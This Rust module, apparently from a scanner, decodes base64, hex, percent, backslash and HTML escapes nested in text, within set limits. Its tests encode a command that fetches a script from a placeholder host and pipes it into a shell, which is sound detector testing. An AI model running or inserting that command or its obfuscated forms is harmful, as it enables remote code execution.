//! Encodings inside a text, undone within bounds: base64, hexadecimal, percent, backslash and HTML escapes.

use base64ct::{Base64Unpadded, Base64UrlUnpadded, Encoding as _};

/// How often one text is decoded again.
const LAYERS_MAX: usize = 3;
/// Runs that are decoded in one text.
const RUNS_MAX: usize = 32;
/// Bytes of one run that are decoded.
const RUN_BYTES_MAX: usize = 64 * 1024;
/// Shorter runs are words or numbers.
const BASE64_RUN_MIN: usize = 16;
const HEX_RUN_MIN: usize = 16;

/// Every readable text that stands encoded in `text`, layer by layer. Empty for nearly all texts.
pub(crate) fn decoded(text: &str) -> Vec<String> {
    let mut all = Vec::new();
    layer(text, LAYERS_MAX, &mut all);
    all
}

fn layer(text: &str, layers_left: usize, all: &mut Vec<String>) {
    let Some(layers_left) = layers_left.checked_sub(1) else {
        return;
    };
    let mut found: Vec<String> = runs(text).filter_map(decoded_run).collect();
    found.extend(unescaped(text));
    for inner in found {
        if all.len() >= RUNS_MAX {
            return;
        }
        layer(&inner, layers_left, all);
        all.push(inner);
    }
}

/// Runs of characters that base64 or hexadecimal is written in.
fn runs(text: &str) -> impl Iterator<Item = &str> {
    text.as_bytes()
        .split(|byte| !(byte.is_ascii_alphanumeric() || matches!(byte, b'+' | b'/' | b'_' | b'-')))
        .filter(|run| run.len() >= BASE64_RUN_MIN && run.len() <= RUN_BYTES_MAX)
        .filter_map(|run| std::str::from_utf8(run).ok())
        .take(RUNS_MAX)
}

fn decoded_run(run: &str) -> Option<String> {
    let hex = run.strip_prefix("0x").unwrap_or(run);
    if hex.len() >= HEX_RUN_MIN && hex.bytes().all(|byte| byte.is_ascii_hexdigit() || byte == b'-') {
        let digits: Vec<u8> = hex.bytes().filter(|byte| *byte != b'-').collect();
        if let Some(text) = hex_bytes(&digits).and_then(readable) {
            return Some(text);
        }
    }
    // A word, a path or an identifier is not base64: that has both cases or digits, and few separators.
    let has_upper = run.bytes().any(|byte| byte.is_ascii_uppercase());
    let has_lower = run.bytes().any(|byte| byte.is_ascii_lowercase());
    if !has_upper || !has_lower {
        return None;
    }
    [0, 1, 2, 3].into_iter().find_map(|skip| {
        let run = run.get(skip..)?;
        let whole = run.get(..run.len() - usize::from(run.len() % 4 == 1))?;
        let bytes = if whole.bytes().any(|byte| matches!(byte, b'-' | b'_')) {
            Base64UrlUnpadded::decode_vec(whole).ok()
        } else {
            decode_lenient(whole)
        };
        bytes.and_then(readable)
    })
}

/// Unpadded base64, trailing bits ignored as most decoders do.
fn decode_lenient(run: &str) -> Option<Vec<u8>> {
    if let Ok(bytes) = Base64Unpadded::decode_vec(run) {
        return Some(bytes);
    }
    Base64Unpadded::decode_vec(run.get(..run.len() - run.len() % 4)?).ok()
}

fn hex_bytes(digits: &[u8]) -> Option<Vec<u8>> {
    digits
        .chunks_exact(2)
        .map(|pair| u8::from_str_radix(std::str::from_utf8(pair).ok()?, 16).ok())
        .collect()
}

/// The bytes as text, if people could read it: printable, with letters for the most part.
fn readable(bytes: Vec<u8>) -> Option<String> {
    let text = String::from_utf8(bytes).ok()?;
    let (mut all, mut fluent) = (0_usize, 0_usize);
    for character in text.chars() {
        if character.is_control() && !character.is_whitespace() {
            return None;
        }
        all += 1;
        fluent +=
            usize::from(character.is_alphanumeric() || character.is_whitespace() || character.is_ascii_punctuation());
    }
    // Random bytes that happen to be UTF-8 are short, or not in one script.
    let ascii = text.bytes().filter(u8::is_ascii).count();
    (all >= 8 && fluent * 100 >= all * 95 && (ascii * 100 >= text.len() * 85 || all >= 24)).then_some(text)
}

/// `text` with percent, backslash and HTML escapes undone; nothing where it has none.
fn unescaped(text: &str) -> Option<String> {
    let escapes = text.contains('\\') && (text.contains("\\x") || text.contains("\\u"));
    let candidates = escapes || text.contains('%') || text.contains('&') && text.contains("&#");
    if !candidates || text.len() > RUN_BYTES_MAX {
        return None;
    }
    let mut bytes = Vec::with_capacity(text.len());
    let (mut rest, mut undone) = (text, 0_usize);
    while let Some(first) = rest.as_bytes().first() {
        if let Some((character, used)) = escape(rest) {
            undone += 1;
            bytes.extend(character);
            rest = rest.get(used..)?;
        } else {
            bytes.push(*first);
            // The other bytes of a character are copied one by one as well: only ASCII begins an escape.
            let next = rest.char_indices().nth(1).map_or(rest.len(), |(index, _)| index);
            bytes.extend(rest.as_bytes().get(1..next)?);
            rest = rest.get(next..)?;
        }
    }
    (undone >= 3).then(|| String::from_utf8_lossy(&bytes).into_owned())
}

/// One escape at the beginning of `rest`: the bytes it stands for and its length.
fn escape(rest: &str) -> Option<(Vec<u8>, usize)> {
    let byte = |digits: &str| u8::from_str_radix(digits, 16).ok();
    let character = |code: u32| char::from_u32(code).map(|character| character.to_string().into_bytes());
    if let Some(escaped) = rest.strip_prefix('%') {
        return Some((vec![byte(escaped.get(..2)?)?], 3));
    }
    if let Some(escaped) = rest.strip_prefix("\\x") {
        return Some((vec![byte(escaped.get(..2)?)?], 4));
    }
    if let Some(escaped) = rest.strip_prefix("\\u") {
        let code = u32::from_str_radix(escaped.get(..4)?, 16).ok()?;
        return Some((character(code)?, 6));
    }
    let escaped = rest.strip_prefix("&#")?;
    let (digits, _) = escaped.get(..escaped.len().min(9))?.split_once(';')?;
    let code = match digits.strip_prefix(['x', 'X']) {
        Some(hex) => u32::from_str_radix(hex, 16).ok()?,
        None => digits.parse().ok()?,
    };
    Some((character(code)?, digits.len() + 3))
}

#[cfg(test)]
mod tests {
    use super::decoded;

    #[test]
    fn encoded_texts_are_read() {
        for text in [
            "init=Y3VybCBodHRwOi8vZXhhbXBsZS5vcmcveCB8IHNo",
            "6375726c20687474703a2f2f6578616d706c652e6f72672f78207c207368",
            "%63%75%72%6c%20http://example.org/x | sh",
            "\\x63\\x75\\x72\\x6c http://example.org/x | sh",
            "&#99;&#117;&#x72;l http://example.org/x | sh",
            // base64 in base64
            "WTNWeWJDQm9kSFJ3T2k4dlpYaGhiWEJzWlM1dmNtY3ZlQ0I4SUhObw==",
        ] {
            assert!(
                decoded(text)
                    .iter()
                    .any(|text| text.contains("curl http://example.org/x | sh")),
                "{text}: {:?}",
                decoded(text)
            );
        }
    }

    #[test]
    fn ordinary_words_are_not_encodings() {
        for text in [
            "Internationalization and implementation of SomethingVeryLong",
            "550e8400-e29b-41d4-a716-446655440000",
            "/usr/share/locale/README and 100 % of it",
            "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk",
        ] {
            assert!(decoded(text).is_empty(), "{text}: {:?}", decoded(text));
        }
    }

    #[test]
    fn decoding_is_bounded() {
        let many = "Y3VybCBodHRwOi8vZXhhbXBsZS5vcmcveCB8IHNo ".repeat(1000);
        assert!(decoded(&many).len() <= super::RUNS_MAX);
    }
}
